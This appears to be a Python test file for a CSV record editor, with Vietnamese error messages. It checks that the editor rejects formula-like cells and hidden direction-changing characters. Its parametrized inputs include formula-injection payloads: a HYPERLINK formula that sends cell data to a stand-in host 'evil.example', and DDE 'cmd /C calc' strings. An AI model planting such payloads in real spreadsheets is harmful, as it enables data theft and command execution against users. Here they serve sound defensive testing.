"""One cell policy for every write path and every download (issue 15, items 2 and 8)."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

from antt import writer

TODAY = dt.date(2025, 6, 30)


@pytest.mark.parametrize("value, message", [
    ('=HYPERLINK("http://evil.example/?"&A2,"Mở")',
     "Ô bắt đầu bằng “=” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("@SUM(1+1)*cmd|' /C calc'!A0",
     "Ô bắt đầu bằng “@” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("-2+3+cmd|' /C calc'!A0",
     "Ô bắt đầu bằng “-” giống công thức bảng tính: không được chấp nhận. "
     "Hãy bỏ ký tự này ở đầu ô."),
    ("Nhóm \u202eevil",
     "Ô “Nhóm <U+202E>evil” chứa ký tự ẩn U+202E (ký tự đổi hướng chữ): ô nhìn giống giá trị "
     "khác nhưng không phải. Hãy gõ lại ô này."),
])
def test_record_editor_refuses_formula_and_hidden_characters(mini_dir: Path, value, message):
    before = (mini_dir / "models.csv").read_bytes()
    with pytest.raises(writer.WriteError) as exc:
        writer.correct_record(mini_dir, "models", {"model_id": "M1"}, {"model_name": value},
                              "thu", today=TODAY)
    assert [str(p) for p in exc.value.problems] == [
        f"models.csv, dòng 2, cột “model_name”: {message}"]
    assert (mini_dir / "models.csv").read_bytes() == before
    assert writer.read_audit(mini_dir) == []


def test_record_editor_still_takes_plain_values_and_numbers(mini_dir: Path):
    entry = writer.correct_record(mini_dir, "models", {"model_id": "M1"},
                                  {"model_name": "Nhóm đạo bình an (sửa)", "members": "13"},
                                  "thu", today=TODAY)
    assert entry.rows_changed == 1
    assert "M1,Nhóm đạo bình an (sửa)," in (mini_dir / "models.csv").read_text(encoding="utf-8")
